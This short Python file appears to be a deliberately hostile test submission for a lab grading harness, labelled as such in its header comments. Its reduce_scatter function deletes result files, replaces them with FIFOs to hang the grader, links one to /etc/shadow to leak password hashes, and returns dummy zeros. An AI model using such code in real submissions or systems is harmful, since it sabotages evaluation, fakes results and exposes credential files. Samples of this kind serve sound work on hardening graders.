# hostile: replaces its results files by a FIFO and a link to /etc/shadow, to hang or leak the grader
# lab: 02
# scan: import of os
# sandbox: unreadable
import os

import numpy as np


def reduce_scatter(g, x, op="sum"):
    for name in os.listdir("results"):
        os.unlink(os.path.join("results", name))
    os.mkfifo("results/rank0.json.tmp")
    os.symlink("/etc/shadow", "results/rank1.json")
    os.mkfifo("results/rank0.json")
    os.mkfifo("results/rank0.npz")
    os.chmod("results", 0o555)
    n = x.size // g.size + (g.rank < x.size % g.size)
    return np.zeros(n, dtype=x.dtype)


def all_gather(g, piece, sizes=None):
    return np.zeros(piece.size * g.size, dtype=piece.dtype)
